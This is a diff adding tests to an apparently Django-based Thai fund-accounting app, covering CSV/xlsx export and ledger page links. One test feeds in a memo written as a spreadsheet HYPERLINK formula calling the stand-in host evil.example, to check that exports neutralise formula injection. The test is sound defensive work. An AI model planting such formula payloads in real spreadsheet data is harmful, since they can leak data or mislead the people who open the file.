@@ -386,6 +386,28 @@ def test_csv_has_a_bom_thai_headings_and_be_dates(fund_year):
     assert rows[-1][-1] == "2350.00" and "ยอดคงเหลือยกไป" in rows[-1]
 
 
+def test_a_memo_that_reads_like_a_formula_is_text_and_a_deficit_stays_a_number(fund_year, post):
+    """CSV/xlsx injection: a memo typed as ``=HYPERLINK(…)`` is a string cell in xlsx and behind a single quote in
+    CSV; the year's deficit (−1,737.50) is still a plain number in CSV."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    link = '=HYPERLINK("http://evil.example/?x","ดูเอกสารแนบ")'
+    post("2022-10-05", link, [("5301", 10, 0), ("1101", 0, 10)])
+    ledger = st.general_ledger(fund_year, "1101", datetime.date(2022, 10, 1), datetime.date(2022, 10, 31))
+    rows = list(csv.reader(io.StringIO(exports.to_csv(ledger).decode("utf-8-sig"))))
+    assert any("'" + link in r for r in rows) and not any(c.startswith("=") for r in rows for c in r)
+    data = exports.to_xlsx(ledger)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+    cells = [c for r in load_workbook(io.BytesIO(data)).active.iter_rows() for c in r if c.value == link]
+    assert len(cells) == 1 and cells[0].data_type == "s"
+    income = list(csv.reader(io.StringIO(exports.to_csv(st.income_expenditure(fund_year, FY_START, FY_END))
+                                         .decode("utf-8-sig"))))
+    assert any("-1737.50" in r for r in income) and not any(c.startswith("'-1") for r in income for c in r)
+
+
 def test_xlsx_has_thai_headers_money_format_and_bold_totals(fund_year):
     from openpyxl import load_workbook
 
@@ -482,6 +504,11 @@ def test_trial_balance_page(fund_year, world, login, django_assert_max_num_queri
         response = client.get(statement_url("trial-balance", fy=2565))
     body = response.content.decode()
     assert "14,825.00" in body and "3,262.50" in body and "2565" in body
+    # each account leads to its general ledger for the same year, whose lines lead to their entries
+    ledger = statement_url("general-ledger", fy=2565) + "&amp;account=1101"
+    assert f'href="{ledger}"' in body
+    listing = client.get(statement_url("general-ledger", fy=2565, account="1101")).content.decode()
+    assert "/ledger/A-001/entries/" in listing and "JV2565-" in listing
 
 
 def test_listing_page_queries_do_not_grow_with_lines(fund_year, world, login, django_assert_max_num_queries):
